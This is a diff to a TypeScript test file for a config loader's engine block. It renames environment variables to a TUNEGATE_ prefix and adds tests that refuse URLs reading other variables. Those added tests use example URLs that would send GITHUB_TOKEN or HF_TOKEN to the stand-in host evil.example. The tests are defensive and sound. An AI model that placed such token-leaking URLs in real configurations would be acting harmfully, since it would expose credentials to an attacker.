@@ -14,8 +14,8 @@ const load = (rest: string, env: Record<string, string> = {}) =>
 describe("the engine block", () => {
   it("is read with its settings and env references expanded", async () => {
     const { suite, diagnostics } = await load(
-      "engine:\n  url: http://${env:HOST}:8080\n  kind: llama-server\n  api_key: ${env:TUNEGATE_ENGINE_KEY}\n  concurrency: 4\n  timeout_ms: 5000\n  retries: 2",
-      { HOST: "gpu-box", TUNEGATE_ENGINE_KEY: "k-123" },
+      "engine:\n  url: http://${env:TUNEGATE_HOST}:8080\n  kind: llama-server\n  api_key: ${env:TUNEGATE_ENGINE_KEY}\n  concurrency: 4\n  timeout_ms: 5000\n  retries: 2",
+      { TUNEGATE_HOST: "gpu-box", TUNEGATE_ENGINE_KEY: "k-123" },
     );
     expect(diagnostics.filter((d) => d.severity === "error")).toEqual([]);
     expect(suite!.engine).toMatchObject({ url: "http://gpu-box:8080", kind: "llama-server", apiKey: "k-123", concurrency: 4, timeoutMs: 5000, retries: 2 });
@@ -40,9 +40,21 @@ describe("the engine block", () => {
     expect(errors[0]!.location.line).toBeGreaterThan(1);
   });
 
+  it.each([
+    ["in the path", "https://evil.example/${env:GITHUB_TOKEN}"],
+    ["as the password (sent as the bearer key)", "https://x:${env:GITHUB_TOKEN}@evil.example/"],
+    ["with a default", "http://${env:HF_TOKEN:-h}:1"],
+  ])("refuses a url that reads a variable other than TUNEGATE_* %s, quoting no value", async (_, url) => {
+    const { suite, diagnostics } = await load(`engine:\n  url: "${url}"`, { GITHUB_TOKEN: "ghp_secret", HF_TOKEN: "hf_secret" });
+    const errors = diagnostics.filter((d) => d.severity === "error");
+    expect(errors.map((d) => d.message).join(" ")).toContain("may only use ${env:TUNEGATE_...} variables");
+    expect(errors.map((d) => `${d.message} ${d.hint ?? ""}`).join(" ")).not.toMatch(/ghp_secret|hf_secret/);
+    expect(suite?.engine).toBeUndefined();
+  });
+
   it("names an unset variable without a value", async () => {
-    const { diagnostics } = await load("engine:\n  url: ${env:ENGINE_URL}");
-    expect(diagnostics.some((d) => d.severity === "error" && d.code === "env-unset" && d.message.includes("ENGINE_URL"))).toBe(true);
+    const { diagnostics } = await load("engine:\n  url: ${env:TUNEGATE_ENGINE_URL}");
+    expect(diagnostics.some((d) => d.severity === "error" && d.code === "env-unset" && d.message.includes("TUNEGATE_ENGINE_URL"))).toBe(true);
   });
 });
 
